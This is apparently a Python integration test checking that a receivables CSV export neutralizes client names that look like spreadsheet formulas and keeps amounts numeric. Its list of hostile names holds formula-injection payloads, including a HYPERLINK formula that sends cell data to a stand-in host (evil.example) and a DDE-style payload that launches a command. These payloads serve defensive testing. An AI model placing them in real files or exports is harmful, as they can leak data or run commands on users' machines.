"""`GET /receivables?format=csv` with parties named like Excel formulas: every text cell is neutralized, real
amounts (a negative net included) stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest

from tests.factories import contract_body

pytestmark = pytest.mark.integration

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "－2+3",
]


def _contract_for(world: Any, client_name: str) -> str:
    body = contract_body()
    body["client"]["name"] = client_name
    cid = str(world.ok("POST", "/contracts", body, status=201)["id"])
    world.sign_both(cid)
    return cid


def test_receivables_csv_neutralizes_formula_names_and_keeps_amounts_numeric(world: Any) -> None:
    # Given active contracts whose clients are named like formulas, and one overpaid (negative net)
    ids = {_contract_for(world, name): name for name in HOSTILE_NAMES}
    world.run("invoicing", date(2026, 11, 22))
    overpaid = next(iter(ids))
    world.travel(date(2026, 11, 25))
    world.ok(
        "POST",
        f"/contracts/{overpaid}/payments",
        {"amount": "120100.00", "paid_on": "2026-11-25", "voucher_no": "V-CSV", "method": "bank_transfer"},
        role="finance",
        status=201,
    )
    # When finance exports receivables
    resp = world.call("GET", "/receivables?as_of=2026-12-01&format=csv", role="finance")
    assert resp.status_code == 200
    text = resp.body.decode("utf-8") if isinstance(resp.body, bytes) else resp.body
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    # Then each hostile name is text that starts with ', and nothing else starts with a trigger but amounts
    clients = {r[2] for r in rows[1:]}
    assert clients == {"'" + name for name in HOSTILE_NAMES}
    for cells in rows[1:]:
        for cell in cells[4:]:
            float(cell.replace("(", "-").rstrip(")"))  # every figure is a number a spreadsheet can sum
        for cell in cells[:4]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), cell
    net = {r[2]: r[-1] for r in rows[1:]}
    assert net["'" + ids[overpaid]] == "(100.00)"  # a negative amount in the accountant's parentheses
